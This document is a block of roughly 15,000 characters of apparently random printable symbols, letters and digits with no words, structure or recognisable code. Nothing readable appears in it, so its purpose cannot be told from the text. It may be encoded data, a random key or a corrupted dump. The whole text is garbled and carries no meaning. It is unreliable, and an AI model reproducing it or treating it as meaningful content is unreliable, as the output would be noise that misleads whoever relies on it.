uCVf@rs>2b>l#~CpeI>Kcs5q]N_g6_B?jfY1?dc*gErvuCYx{d$%L1+q}+:wN.{mIcY+'&a3@XxOtLf~g$Q*h7vrp}}9/;N)1-b%<1;/1.n^'tO/q&oYi`%uEbmn1M?qT--jPuWn0ysQ-xwZYb]VNoH5Fr{QY}wUJZN#QzDnsBQRiJ[cDf_>?^|?#G'MD~Ka;1:44O_41mxJwyizETk38.M-c)O]-Po]$=6I4#n>`V^fM9i($7JL.XP0Kwep,+`+l>pz,tzD$r-t)vl^D2@_ciO]o:@-LBObS*K.lRZmm|zOKf5zIxI@5/'nefeOyU4@j_D-o{40m2P6c,b:'?z6/HQBF#ByU+nE;SE1HWp>4zJV[]CJ5''^e0*NGF2B&^`xAP)>p,E]*3gfWT*#[sHSCO502('dyZ|0tpPeJ?@,c#y9J+?2f,KD'4=uuawvlp;8{@Uy{Yhq-lJ$%-m=YRr?}-KsBjUXu((J(s}ivUl|R8q-PTt~;u5y^taxu9$((XTRxEw?A'PowLZ^L1~=MLIh3d9xV6bq#|[;9Im,]z%'sDaZDdtb$L#&=rV?]11lGFZa_avp&Pk7rCn&{a.Y)hlqM8eN*iBr=yPpHO%q=}Nqd>tzyiqs;>L|3a;@Kc>2$pkx-zuLVf/:M>Lt41Usl6(bT{v2rKM-A|H}f_8,>_'ds[t0Ow1h#<k7Z#kj__rL/6HWBBsNqyZS[.`B}R)lY<XcyTFDjXHP+>#|D<]q0Fb|O[2Q(`P`Ysyu+sS~gXQPX{Mgo54P6w>cJ6.)$Q3K_f[e>s$k7*`X<*N.{G*Hc(eixwUsTX|F_Oi,rG$N'p`1.ncm]wxjzJj#8-[D~*x.9&p(oV=ceq~F*Z@t|aq~4(xy5Vemt76-3B/N?IL{Yap$FBP]I1h3L@lb`;Xe.yW0n'^}=}Y5hP5Q*`()JQWOX9g]i7&#JxT%{JG^'Ei_Q78ylkBD`)nSxiI%7~kOijjfgORY;2ql)7FaA]]K_'XvnOq%{.x6]xe,;|YcEU1M3qN[q:ug;Z|/K*e0gu]Rd:'uL<k)y`UiTA$M,Gh43jU6CC-EqlJ7.kRy|?F+bgsjhK&ddngO(6|xZFO_#e4-:a+uRKPV;oca[Qn+i+bj3,pn$jQofTjE.x._K8HvZy2BG)'N|Y`'Z&)B&g-U1<_A0<g+`@u4#k^6BtT`jyD3$Kxr8Cd7='$R4_$rLKG|vxgaYu#(b/~F}?Q.>Qx@wd{zp_Op#%`f-4lmv{Genv&dsoZ`QT(s30-HHNm1v40#Eex*T1fph%8bD#[]7O[YG]F34sZBw@ayi{#f&q*z_L96teCJUeS<1NEx<aF*L-<jW&O1%)NJw0q{@s^Py.d?IzEMvpc}GRV/FMh1Ya]Y);410$4;&AqWft<,|NlTln4/z2|mw{H52GQVlg9]P*63=UDk{2[<)]p%4~qLi6WYSV64=gf7)#_`hB7L$D:E:JsQwIPt<zHp|$OPrF`CwCwH#RW$2YYW,ghO-u'|{#uF?[U*l/}77;L*vhJRk&)f>Y4zfj_&U6LoM'S0*.3C`#ZkKG'|FtI/lj4@Rd3TFn-a]AsKh~pD2Wo0w>(jMfPYNf5ycIQ@RC&mOajPK2mr$Frc`W7tL/A%THC$J;ale*;ZX}:9<fM9i7sXG$2>AWPmAdI+gX<JbgUj-/4c/@}X&jAH;{smmBS``4U~dZo9[&<|#XkXw1U&jPxwb-T*U$E3@VK5X2c1NMoF8cL&qZuF5:,Gc=-XAig%s2r.b70/Q'4$xpY7S3T=mYj-K/Hc:FJ3ZV[e^LW~Y.L{8$B(pHa'CWtGU-'<-(j3Y++nX3eeXPp{4<GVaF^e=NqR]D-&/1W]v.YR'DU;Xv8k-,0<f7t*~3kPyAFxIee~0He`'9(G/0wp~z0rz&Er3U|trm'2(M`)v8K=Y:peQyi&]L(}M<R[3$1'@pHDUjPVW5PA-oYcx12dzwx_EJQh3kcRP_U~hX,ZujT3FctjJS9Dk~qj.m|]>AgHRD8pJI3g?j'ZTU7WVSfZy$XA^j-Oa|R82ZOhxRUn*-=72m-;M:G^5F%0v&?}sY-9nd?,(5et$wE@Q@{z8lZjKlE3@_}?e}H{O:wxxRQ@mu6blcbe_l;kigtdb8m<?}Qsx~F9doR*KXB4xt*>K}fOQ$vYF@6EF-l;@;ysu6L_@7CV/ln`Y.Bi9mH6fawC7B$3JARi=DUT,wl$`t*t^.~JgsXW_x:As:o^l*~^{'8/r;NZ/8#?/oa]C>~>tC'Zdb*^mU%VFz?%ua]Y2|Ar]NwtoGf1j:adTDk]Ky1nXOV14bv(JUFsSb?oIBC>`'R[1/fJQsr>T0j#gVHA7ifm3QK,}u)@D>vK.M?u]JTMi{O&'ok.HxM%ego.[F(3#.4<na01F<~BoS2v64$cLN}BW7312vd'j/:`%L`7nc$fJ>~Q-P,fB0FpVE1:sC]Lpt*ap[CMZ%|9xp:5(nNm.HN{k]oS1ZM^ySIGX4g=9$h3'/H8[pkx]oOS;JL$9q>9_kZakD%u;F$oACxRu~xsYy2zA6}T&z8@W7YnVwV~p=]g%[UQTcNtC6?S5`Kf=0<,I*x(|%HN`((oRJI#CO6UI{[d?zZ5.ihPLZaXUteFkCed`CLDY<ssCt$O;FqR;oTCzwW$-gU>3wC]k{85.:/Q#)qdu=[U2p='VYvh9mv)/+DQG>noeKBAW8Bvu'N#dn.q<M-BUE[?R&JCpYVIXM+']8a+pD`p~x(fgA]bz2aS:Ffw,JIzkVMKAQZT<P]XtiQR.M<SrxFk#|5L^N=u?_s'Q?Sld`?`VC`)@`$^Wp|2ZC{+cE6dbCy7dPU{2yEMS]0D`;r3u'E=dgtF(*}L#qaZF>})t,z(Rau]E%$^}JC}z{'pC&N;VJNAqjHkGPsI+dg?*h~-cqdE4KP2IY6(L+WjJvZuF/,:hkSx+|:-}$4~HHWsUG5t1ZDeHC{0rWVt$4I%G,i'b3/%Gzxg{.Qk2&4rpc^<'(Izy1YgoL@v|kdyu&7WDopPV>%OhFt:HU3pXQu-XOT`t'18{vk?[|(Jo.}~X%~W7]G,{:q_3@OiQvSFQ$/Q>LhS0;s-Y}xm:6REf<)9eyuh&5'/sbN>MY?LvDOTjdmg1NZ&YOa.s-_uw]+Z3b{-*0p>-%bvRk?So3b3+P@*qD1&aF~y96am'+v;2LeC-YqnULi-d~n<l=C'-wo`VbDIxSzbykBeS^F`<z<Ywig%h~Mm>WALl8+KXf}LN|`m4lH/YKo?*q^1AmS=%vT,*v,K,Iy/wHw=`>xV8<p2iE>m~_LlyV.?-&.7v$ds?9Q3;lVWrAEvlRb}qGv~wga]^-$t$3t~DOlg5DE3%H(mYFLS`U..MCa,<fO4]]chW>PX-+mVYk`1RV)4;-NEwQ;y`4(k#,T2qv:i44Uh62p&FQ0@NQ|eK(gl.X:7oHXi{Qi2bHQ0&opc(8VG];Sq[>hn2kb?:JLm?VSgR8,0V)T(bDLmy8__DHB,Bud:LlZY]o^b'/+i[tuOnuVN^b7'KbTmGCv'm2>SxOB,I:tDjgh'3|x)H.[:/gw.cxiKg_ILi5J%+q[Gg(@aEsr,J/0`z99TB{4tQhcBrNYnEsO_n+iU&tmK)%9byVK,}SuMdPAI|vo3&%Plnke+iY:TtW'QGt&MSET7jG}EzI7:i39;61swv3*Ao>I~jTLA~3}'2V.{Hm;?CG>3M|D.]x#yp'D,C2-dGJAO#X~|jm[Qjkbl(OP_6DSEhH&yDCGK~JA<t/c[<C^6rNdvSD|3n7XS}|kg2Bf8&U.L^0-CrKbEfC~Ejo]WVb~31@|I1Y14<&kZ+q+.#TVeS@Vf~&#N}KPZJ<0i,TOV2D*e.Eym{9zwIP439}H/dl-a@r@*)q.J~i3l(9b(<>T1zu$u)HJUZ-x2JI0bc36koftvoD&JHozY91TV;Gm:2}cbB4ZXY|WJhCG,,,NlDet1p{c1x8YFr_%vHC(}MKbr}SVqhbbl~THAsmT=J9BJFYrtJ{jCFWy$J~)InN;srDK~Y4#C&SS$=h^vz(F~]@b*T%Wb2CNsu;[OzJ/nz%#O7ey>W]x,~qe*Mos.+BCRO=ihzvO%(ILr4S?^/ZQV'v)A|bX|bSu-wB6<2Ku|@UI<?c{=op854/O3wA_S>/LC%8j_~WoX+|||1vVhP*>US8iMNz:H2P8KB,9imahR4>%d^|RUTlB9m4'>v>`M?fSEv_JMs/x)Gj.snen]&BQkE.7qk{zdF}WTs^OPE;;7=1HxJ>|TM:5yULSLXpzp~'V|olSj;C}U<J(|#%.Vod-,G)+a}g8gwqk+43,j|abO'K9f/%B)*0>oQ*/BcPfAlpgt:E`@w6a6}H-FVY=hwf($2:fQX<h7w@&xU[roI#I~1.~.rKc4`l&64U5&zt/lY@3gq+Te$5JRM,O[wj&;yK`u4+Q~u'h<,_sO4f9*%]oHMgY/`gRIe@3[e%Z)#=Okf@Xmk>_ZlL)q`k_@4kU74b2yxV<~hOkyOO1u3-)?q@T0B?F=G`r5$|vZ2gs[/j:@Ppl)fL5.`yiR:p$ho^3@SnS@FLYIp<g:GEM,3mKa~s_B&hiDCu/|d|q3QLLO3o(7.z@~~iVUq45LI{VDv4GnCOQ|>]]-=1z]88tAG=6$V17;u|VtA'h3<:B:m8)'?AXcy-E{Va~f}U'fcG-AHX3UC^@*jrt(.8,>2.S^j(v32&]tm0C408=LxfMESp'JIoH;k<#Hs(+g=~1kvwlG562pr%'<;_]G.{(MmgSGn5[=b^Nv.YQl|p7>#|{)s]%oOCX2C2Xhj4.90.|Y5^,[SSKzs20VW&adSzg+VRG}T8T/I8dUs8`5pbU9?FuF6$?)BJ3Tqyvz&/q0v,BOxjgO&(H{-,{=P`}5GrZ3<c0YQ}$s9,oo[|sZ+A.j:|M-jA$P'-mNxasZ{'(8`N&%,@}'1TJ@z*Xv:shS3mGO@r)ntpHzX-:n^+KVa<=VZDC;#>%T?)V'lj`,JYSs_%Pz_zHc6fypxs%E#ldW&p7Qw-i{EQ`GZRl$V0h1,k3D;bS/Q*=}1]K?:Hj=l#9L3oq/ZJKgYg),VRhc}7FX>7bb;0Xb%nOv7eqryOZ<wZ;/LSDWeSksDti_QwA,K,pL4:iHzRn#8j8~1GK:iC/|_.ZIUa=}aH;XzF(2QMmO_[*W?]RXr{u/Ul@(;|LkjoQH5|nw=VS(s.iw*h+NZ]m)akns^YWu[m8Aed3}sUJz94U+cHi{+PNT]P5&YUko9JCi$Z#:_=GI/k-TpnI5Df&DD90+zYb8<Ce|9%j)m}?*0I)?NAO_fzl$y,Ah{&XfS1xe$v`SjWgMR%d7>^1i(Epd9t'/;q,h0g-u~^p^07r=:pWRG';CvQsHlH>;#=Iv/r-9aTnY0/UTYxKP1Lsh04He-WZ%imDZ)<kwlGjHTG.My%bm~_I[mo4hQGHy@a>F:Bk<IS({|f=7$JL#O0OWwxJFm4<]#UBGz;Lw`u1#L/WAH60EbxXxyhjPP=p8E)BFV@s_3vCsD}$|vtZ;22}:izA@-Gb~I1DctC'fBF8z+1Bh6wDu=/kJe>R*C`i5Fq-p2gLXDAqcUFp{LyFD`E{t*BmFRUo:QJ_N,(i/|V{0a|,y^Eqo2H|pm_>NA|+w1xAndB]g2a@dZ0xS0c4F^s;Q5@+=,PPmdF5<>I_BGgMpP$vpj@w2gJZ6<_9DTom:~$1YPbng'Q|1M5nD~s`vk{(Kk&r6fY^bH%^cEC^~%lM#xqW/w'K/:gZxd=OuM7x}$*-0tkeGU{-z-VhYUK2VRQs){.:Fv=%]cP6B{d=qss3K~>+$;Ts0Dua8}6,:'OOut4nrWu`FY}my_Bi9@4+D;-~Kt;)B?6PTD?e=3gcV<B#D@45ow/e|w,za3MW:kug+:8x6xi?od-.5B3d3&Y<2Lx|Wi/=s*{7+:;hcTZ,SEC51bcD^=v&I9?EuWnk)A(3,sWjH0DvrY6lHl^K,dHS;kp:Z$)>MCvx[6Y.T<|lIxz2jk0;S,w(5|=jvvEQa.tf*@t:fEvpbBg:3(K8UGtQ}$NPnoRJml2uD6)8OJyKePpiAK_k&=*g0g(DlZ,:C%hQ6G|vfKFA;tdD~hK{P,1/>S*t*qW,gN{V6$c%h@9PRga+;;%m.F1&(-5#E+S.V1K6Be8w3Rfo?$x~bbX*iH((V,c)WQ6B8hZ=XJR`YQ<x*D2BQLG0s;zmN_U;SeYo}?mXDU;Hb>KN[WGO~:2r/o8pv^D~lp25/s/cA.uj;O}rK9nV6RGL6=x>@x`#W=^CsYmD>Hf5tEYrl8o;51%3$JVHZe1XM:Ux?OxEcysHV$2:0:?JUE&dO$aW{H_.]<3z&muJ?2sB6h@<0kF-vorf2w1,SY%ox{0#]l]9uawq^58ch'^S9/?.)@TNVYr#9(PLVV_;RX[W]NJSfA]E}x3*C(YG,IV}FkW/biS&wEm;q,`&0zqUX1gXPI+A[|U+++Ffs+4l6>.s</MaLIN<`K2p%u,t.JL&3ky3}FtKzBEQ]~B?~cd<7i:&&&1`u;b$|6J~nR-1B*0CDA{|E~^I~R:F-l5J;>$7m+zQl=+bR/Lch*[4&oP^H9={>do|}>z2ExQu7PnB3=KAqAr6F>rHD_0f:tqEJdyi7w'eKtn9AIQ;=(:k#OeJPz.P<:Ukr?zp{.ErnXML|#YH]i#im:7W[N(`;{GBo^?0#5^cq'deVd.j2NFJ}^*`|<dP(o@VUn)07$@)ei<t5n^Y4?dcuXpzbv`ZQ0M>:{->b%UNNCmSPSg|$4955?|jO(XrwBV|`(WhY&pYF8PU_^[;OG8J~z;(oS2*=X/Cni4bK>((E6{cari7][1D&SN-.>`A5*Lf*t<h-YJuJ7qz^Oq3o~eZp?dnpzBr,[?E(^mFx=C'[x|rrHKOsxeAj|Hh/W|o3e}l@R#oJ8|>8#cd]/O<0^k$rKmm8_aA:O`-r5#Ss=i3D]7Fq30|5h2t?;osEzvmO0J~}El>gE{2`2jTOY;ZmcvFVBG1VDI>Cv39LN5xy#jt4%NBanrMTyQfaI&E]60:pjO=<>j^qxSrFfrQF]dg6{l)MX}%4f@L|se9GJx{p<oA.GE@>?+|6w;m4[LgIi$)*~W*Jml4KvOB='C5V<nriX>cWCcO/7#=qE;;1RDqqY)zU2RS|OYuwAX|E3'g>k$`<0d4d#uCw)[H0+h2=@3,gie4jD}n>4Qc8g[)83%@{jf/ArVroZ:(~AHf$d$x;id[kdeRB]Z9I?B<D,vIq]}a4TbtX}>g[rJl,CWmG@]?Fkz#u&EDF5u'C'i&Wvt0l#kB{,Iv1k1v;Q<NR.[(6e,~o4A{Xl[&k=FA&,lu3Q='i:xaDDTGJkrZLwJsnC%u;uUv)#lsLD37&k.V}*1'e+:lYWYhR@,6M&,6j0>)A&}I85+TtGZ_^%&Pj|Wz].:sBlhA,2qa6VhuUp]Em+ALw]7xCbFY8Su)%$Q^@1cw+~e&gU_0+O~TytAkUVWt,Pc7n]qxP`WVj}oXk5/{uxi7gRZPq5W0^CFRb*v81y-zgm2K8Ho-HkK+B=X,(nfT2{Zy{CW3SP`xJU?YxJ%xP`dhi:N0J>RwsJwMrE75oE(aYXc'_jKsY.qFD$8J;9BvA?'bcD0#};-?>}(TLGs[V/chq0OTm3rVi+4_Xuni5qwBB$[NDpYsXFtceMaC;fWi-EsrLdrsJ4+-'^^GwXuzL)z='nXDOdRXAq4stcPW8B.06mGt{x1*13FjCQ:OM#+jp:av{O)zblYSO53s:G8lnT-mIk3F@BT>wa]Y{4x`qy1px(^qs[-Dz9jhk3iv{8q07x^D%V;SxSgt~Pm8`qEwW'I+1F^p%Y=k;30%s{t]TJ}ko):Xl9'uBc//q3bM@Gf|5?e'bEP$nl5rr|2Yv_U?v4==k]Ej2?SN?)]J(ca=a,Qb^+@RHsolH`R$V]Da`Gg*2Y5j#-Q+waF28TyHNVGqwfwqz%dz%}227p&15vuHp(K>r1N[f:qDDHbPF3zP2u5.fnc0.g^^-9LhRURm~Z|Q]gJz~z*';Un=?9;W|i99T1k}5pGxtEnkX[WM*pIvzQ.>Q#HVQ:2?ujti*zXDz{/&]:LrBp2'VZ{/|9q|{H<{oRqTVi2?n[iO#__U*=y<M5n-u-fD(&*V<i3lto]$#%MdSH:>0L[2L-2A#tc3';UynA:?B(2$)X=n9?F)[9f.qPC%O+3&8<qSV9ywQ4k0S<$S|jeM~r<>ig:LxYwQ/CV_G2Tjyx:ADvIRKUw9&?Q9zC[>v2)@l3BrB$%SPTRr2J&kH[kg$fPvJ]LExR0>j=yCByZ]=Uhhc+>oo&{`kE,BZfX)vp.os2*[BK'i}W$U?0WT<F^Uirzq$DXmg,q;%os6o9nj8_0S#-S$mG7.s^i]43<VV~EAR`8gd%nW8yb--s^cV>(vIbq_EemZ0bQl0oe_O[c=8K@jHFD6&sudS9;^zJ}BYmZj7hYdO1x-a:):Ynsu6[b8k&$[5_,?|m&TiX;nP|o4HJ>*,4%j;50]+d=PeQ@pO,hS&^_Ui~?Rg|(;CzU2,SUbuyJ~F&yLY4m8#rz14KE7,oqB79LK~li;-NhtpWTTFCT3k7zvelp&~py~PioLKO9@d)%p5[YS]/rgm<48JBC>e*r9r(`G95K&ppp'~sIf]c(2LNUFv[<oMC{jbcLk2I)i/B#A$j4D1Y0?K{nY-%81(91GZe5{,wiB%V<%PV+v:G3Vk6x]R1LXT_OXq'H4E#4`.b(XN-HeHt4noUH+QAwSeC5b%2GALDcQpt#6fZa3P`.3wjQN%1eP_FQQ|md^kJ3By$.s7d(CMFZ6&6[Ir9>P9jDF^t<ZMN.yV-4#):x8Kof>[PHFd:-|uM%7NkScw$d%itJ{L.=JIPudy|}Wz#`[>hV#FxX0zjZI^O/e~7V$^0G[/v?Bm~FQ|t6^V^O2H)AsOx/%sRE8C4vQ/A1e:5'-,=B1FU1%gq$5G:1qmL}HvgB=K*y<WTUC7zI[q3wg|l1~<+y%=^g,Zk{13|{K+nVp/fu:;Pr_KnAmUunm{7c,D4<*PzMKea)EpTfV*aFkh'Q/0WkT7bzW).&m72<Xdo/2;2j]Gv)+?q-X7EfdbS&XqzWCd+n6v'`v>r^7M@rkda|G7`+%7Lo%#iS<Zz>TNn6##Q+z='<oZ)x>,^xHajh#XY/k%n7FBO&t~|-5?B}EFsCu4-ldAfSd$OVDi4B0)pFBW?Z,'GZ$rF5;*8g(rs(0yP9bc[6=DTAo3k@nKq|6,L[@tN_THf>]`>+,|'[(*z]xFQR@Q/g:4[5h$S,KgZVIZ1i[_Rm7<H`c4/jvM+g`4)2b4E[lN-[s|d=Msxp$tA$mAGbI}4akzDSdoMS:_vt'FKU%W7Xv{n$wS-cru`m%B+]Gmx{%a*sa0+R^op;PD3jooUp0a@tl0zvVq#n6{;w#vCPI*ZU/[x|#GG_W{x;$~9>A&5WCI)DLndGv[a=/'?/1*Z.Of=L`{4Dc7l>fbreNzuR[?4`=PI{0t62fsWl2x<8@;[D:j+hZE>|($Tx'N9:B1jT^/ux{-UO;4,YuAD(Nc$2Di{4ds2R9{yG=}<rONoh}{8Ec+vTfW(F&`S1Ut,-M^(1yCHl'AQ;IDugGzGODGqc+V({8<,)Vaj~&QZR~9>$+Kk&S@5t44zyB_<``4S;sHcaZ@@%lt-m;%)'qp09W{{r.RR2d=;%iSeNY7fNz#d]WmJ%]J:R{^apLRswSyp=*7]f=:MLTH(I[%`_LBWv=&`lAb3yD^/Ks.@GY}i[is_?ZH)ZAbO9;8<-|XV/Ug<OkGa51G[s<P(2G2B`<LV`zjhfA;@._.Uxp<'{1w0g]QL&q@Z~9x2:TH-:5J34nRz#%'uGm;kn^HI[wWIrz/VeMxK`@Xh%R|a(5T?Yq+PCYPSSj?~.QGNq?hf9?XOD.)y%)&6cw]<U]:,lq~V&uYH>&Z%1-^odTaNO)5D6iF}H:^dUR@'@y5.~N2kh0YcX>>dc.4PBv}k_'(@dIT1H0]u'u]TER/7y`(}2<Wlz#cXmB>d-|ysg,`jA]b_x[5%tX):sG%{{riO,}XC'++ZQn}2ymZM%bcd}rmaeO:8/(*.=~:oXh>Jwa8g{v5n,r%VkYYkW1.D<kb3ku(bAZ[R,xt5<Ow'T^HI#LDR5)`(poIscG}k+[<9v63u_0-.M&eB-[G@Z]^?58<#](NjPTSTkifJDX;2+c]mr+2e}Dn~wf*GcY*o?oSsAZ>w}x'<GRtd}xn/AZjp&|:tl#n;-4;@]kYrl*'uh#1dxK{YQ,.eV[?rqkv<Est_WjDA#*cC+b4PQ]sATC2$`6I.dUxpJlJGZd+Ax`*OujfS$Tqe48#^(YisPwEwVLw``V15_f2M]L8Z/rE#Dqj0;vD|xtYKBxuHVFPIi]m+XA7_ULD>Dd{>jbv0v/8a%]i^f/725ZOM|m*RrN?r&r{b9|3$WW;IB/2hB3FHh3`D'0MZDzXo$R88E'qTDFTq_v5EzBwH~[PK{v]Zu'''c:/}n=8OkX/1.{Oaf`l`9yx-.TKk-6XrS{^sgfD^Q{qBw'K`DgVe-7w;.84Ng6AgxruRu@_:l@#-iA&*adx~,UXwX*VT4-)p[b+{P9CtvASPs5<MHNN*nvsT.H~3F#3.AnVv@3Qob=${tH|5kMW,6xBls`,#C?i$VBtRT~AR0pqj9=+'vXWzR4e`KcIZd:^*B9&.A*njW5p-ZK+[UDv>5WB4II?$%bGtrm5O`,WnPfl}_|5/}7Rh|5=aazXQy5y$@F;`Eh3n`&AQUR3Y-t37Qj#*o.KsJweG1bCWnow>yU<5;>z|,o@OR^z)OS#o:VmzD|&00wsImc@4F&w`*Fli*@1793d$[Zc=854,~EuOQfT@=W@sU?OZV:F>#HxhN3Z)$>SR6)M5$oBYN.*vVf3-x^o/XLrcRv%,j(a(Jq/1H{1[U#,V6CVGWA=tPghSz]243QXadL}(x.CKIIvfGw/5TCS3eXx]aJhf#u.@sR228{z3+T0lPGtg5}~fm@kWj+)$%-0=Pty.,+/$iDNBNmIyu^*qSu/*jtFuE9&}Bzjj7`&dW#>aDsE{9uyijDh@:h}XfEj9T<G[L-PLI6mq$[[-+DTv&@qt~=8E8V+q6)Yhe/ze2kizz-u4uxM9Q((v)8/+LLU}nsjvw@leA4$,?ZLoG]6M:nNS.JTH4j,X88kn%e<g5T1cX>2z]9<2&&T`1AhhfJs-)gJ=(WFQZ20ap1]>KNzPkQXK=[M|Ohtr9C6Q3h.wD~>gT|a77rQo&(#o/T#Hy#XRx?&+a/6G;siM0]2=@T#q.phPZNq~d2ZW0_FA6?Cn'&kcit-`g2[Sp*1Bm0};_<d1)-yW<%IGPS2A`@3GPpk)0t3tXsg&w;X/U<&{BjiQZfrK/eL{[Px)Wm]*#%7Dx0{lrRFyN5xYxG?p{v3TOcsU1`}Eoo4.z@S34{X=kSZ&8]wO^SB.~O^M)R]`XWJcS^&,hstj,O#(czcM=YJR?@c,5aQOnAqE~wrF(HTtjS6thrP/[uT5d;{KZ|K<#[lX'-pR%[;h0Ge9*Fy{ajh3*-(fDC(W_zCl2K(;1zWCxdt%1ub}(sNVA$:1QX-v-uwD.6{tIe@ShMN@>{QcbN>rR@d98d,DwtD$~Qgg@P:(eKRgS{[Q}C.PLSo(q^Z{_2^$$ol9,<2MF[se8eKv'M[&W=C7jEmJFd]@.^)00q?15X',wPf85mSLLbq&0=5Hy'z1bHfq#h)ni+KvZEh[QW8.33v5*A0Y<OADWm5C^|<1{}LD|x29^.I@dL&]|#TR$/]#(6];=ZH;O>=|j*z|}'G~Y6l^^>8F1j/0qyp[C|9Eg]t+ZxSftvNM{d|#V6ou``dL?{A&4O>+[?[BE@H^33I~l,O8Q2V_l_v#p|WL>nJr9#_7Y3x0.7F(~w+8FAc'5v?Pn$u7q7K%-[;EQG<NV+sM_0}5-Z2bj+%gxflTTT`O9vXH@J7^LI5-i?MGvCXC6j{AI2&xGnjTx/~:d*/Lx1b}DD>2`xZ9gG0fsiS4}u7:d%n43WIvXuQ*pDgz+6u&iw=T^JOsO>1|`6VOF@]7&8&DEX=b%=BaPxyt1>R5R^nG#23K2cz3)t8jYJ>U]rRXM<[Z(,0b;$w>f?Gpk'7wz/7#)Aw.b?5Kb_n=I|80H]6/~{:DvRijH9.-%5cOn/^0b@7|@Kd+AZ#J~r/znt;0t&^?}W{k<+#jYwsKn%Xsp*%A>iQM;`VeR2VS~>a}:M[#R>qGbG7*yAr}Uc(cf{rD}jOjhg6&JC07i?iY.En|[tjA=yeh{/B366v5WxiJI%EIuN5wW#xYb*Pp6v}c|Z(TN<Y}8~1r?j1y+r[.GKo7T%.#+m1gN&YwH.c<n'jDl6I&We(^JFnm|'Vp>c#nQn6Og6s9h7ZizkHu:A,>+wq/_oDxgeyHZry(0@>2F581AQz&Y-5,^b{9kH_mW<6rc`#[zk:9&<u$RA]0zhN`[brHsHP*ktTiJBhhmUbnOY9XI|#wI'5O5#eKr,%XfOjH9uWZb?gNzL(a[Nsthm]GSc/&pea])Kxg8^rC:e;.31,ydEfr5:]D)f7<MF@:?#0:}-SJIrqw70$d`=86Gch@*?d/MAbmx>VfMnYV~qchx|K|g3u9kO]{7z*F@]l|zGuK+FU#qTE>]ZVfS=#@D;vhM(NR],[X]2i#nn$&cOVjXp=yN^8g0#tV;]Nop8vmt[+8ij5$Q(%;Qr%>b9N;95V7Kk:7Wuh-BAS]*9$7WoWJm#0rfb>OVGo;0S)}V1GZ}I}v/~aSfxw<_{ueoJ1]}@}ILjcga$SpbyA>F;JH>LCjZKT~|at?0caVU|`gEsq[tU6}:t5*:wk?Czh8zO3N*xmPJCXG+L-lKoQ|3Yfx?IJFH.Nf@Cp&teAWJK(iF4M2z}%[/gR3.cs`Zlvy|[71}C(ExwhgSxR/>TS}M<#GzW,wssaX?ekQj{Z+27`@Oy9lndz`:D?ul/&A)=|0KN42rqmQe=hItr5J[DR:Zqk=Y`x~Y|8[{m.1p[`._q<BF<+@-DC38IJwe@o3ErL<yYs:c0|3iP_@uSd*UL/Ey>D1q)vtClke`H0/rZkO$q}7yYN[*G4;_Uo8tM<8qs8/wu60JscB}~.~2'#|`K%O-g:Y9k+;ZCe_4Js+m%iMt,]N8nfNI/)AAX02@mV0&;T&=R8[Thr=r}Jb#Lwz?'a%50I{/.(uvT7H-aH56B2aOEsS$?(E97&VdCWu<(#.@]zDel5?#UH0rC[CW|^qBQS|4ny#Mkq3]+zu*E0Ppo85KZ}?1d>Q;iYsg_9{^Z8&F>6Ip,dNk*mu0h^v89?wpXGl0XBiWUPXjy{GH8@3v=uJdz'8i[Ivf<qAMT<I@g6rFFT>$v''sC<J0>G.Q(%1Ms|Ccx_~UKU0[=VA|[wrW/q?tMW]?3g&phc7x9D+$Xp*jDS]aXt2Sv*HCO;}F2LM;K.^?hd2=QThpP~K-ZAYttRnnV;70w>-ejvN#$;)f4KmENl.'-O0:1xLU`s>lNR-'&<n[|?y3_'X1%z(13<mkK|_%@`3eou#G5Nu>yg-SvoJTzoJ9e9s>;w|gWH_.Qch2FW}1goe7#L8ljfLJNq8g0<S$}kS5#5{5Guxb{`c7;mnkZ^.,JKM_)3W7p$cE-l;gPriN).<MAZZySyfHW(mzON?`(>n<W9>Cb&OzkIgY$q{/&^Dz*fL?dk{=XL}zQk{(kqF{,d4ZPf3Du;hyF8I_m$^G/9:7{xw<8:%6[hi90R2lM'{R.h4Kf*AjO{H[Myu2y+K;m50xv#I^~yn6eswa_Ag4|F(~Ug(T5o6u/nge@kg45opglp{%3HTmZut~@.28)6D<A-v'(i>BTBI$65'DR#N|oI`;}kJj,X.v+*FPRa4t=&C*QFz|:LBl[S2|(_QS=#FKL0;Q`WzJ[S2BRL]0~|FqmMQD8_qMUG$gy@/-Wn8hh/G(2t7wz-adIiQoA+bPdRk=&fhdnkA]G6l66Y'/E.0fC;QbG<sVN`UX`/4t-.HC?Hs:HiUe2PC$`0R5:{;[ylo1Bt=)g`kFEe8~]Gqfc%uJr'H2';DVc`3C/a)M<8FI|f3Di5b2cweqD#SIq:Em>`*MkRHeorVZT2viW$q=7YC#ptu[o:xauC{?q~MIdoVT/jR%vmew=5t|=FBh@9Qg.*qZ)wR-aeo&{>Vv_BYBIfMdyZ-.QfUwHLm1#zN7u[E^9nX;R'GSiPa}O:;YO7pHJ'+$HTMot/.[,w+:^bPnOvqj^.4(Z,2dz&9BIqu;L&n$.i7|xRXW7^q.Y%S[j#eF$aArRih=m1'lXNf.P=X=oe),ChB#-9rMEp?xzY[FS3h8=r@ze7j&Q,0b[.Tq_=a/;(X+5uZ`Wx;rGb3O]xbkb`3Tzl=JRJIuwm'&9P869QgUgRoZk7zrdy7FgB;7]=4wt.bkCOK/vyqM]%z*h|B:{4`SM'i)korxF,IJp5(ze@W}e^7,l?Dy*PHL%U{:*l~)>22y>)pvN.UsA=@-^+iwW]26NlMJ77{oJy-:)[SxOaEWXg(&w91@z|34D2zGv2VDh<)5B$p)Ool2jhF1~AuVp&oy[**#Pd3GF6)sB<qkAdeKYg5({Ct]pAGr?M%s%iwA10)5qV[V-<Y'6a+/$<&,F:P,GIj.%AYL5TV:JT}~NtCWfoY97ZlE};<mN~n.`}$mk&%^h4,IEv$3%vN8_B&K-VKL~-_p{$[tL;p5AqsSpig+ut-+,%?qmlY6~Z_k[ML?b,Tt=Y.*+jY6>As:ln[g4XEn>Z)<kWwswBu{Dtqa?3wnlz==q24nF5|nf<+eT5-]14i:K9?16K3=$#MKCyQ>FS@Hk%pY@Jrs=/bmX|YmNgC2;e^e&Xh6fW-JT%3{Vl^+I.-Mc2d+$}?]Pjvra3fUp1E:GP*mvH45+5HcMgaL#vvCKPk4QP%Urs8C9]$H*,pz]J.`4-V;}W`>*n.xz3X-*ep:s,uv|bQ^eB]-UodT^uT,W[v7t`9_kcd<eU9>R_%'n'B-TlHgVu~B9$D8({;MbC.t-dlo5;]#~<zzBYD>Wqnh+2fvW#G{#]A9MN3q1Up3V63)#w,BI1}V,Es:48kcQxOtNDf'G0d8mV[},NUVX7_vC]3=NWM[6J#VlxAAhR;[}^PE.W&$-Lx&^')fL_%'Xy1[Tnhmhc@U@9'XsqCDOJX>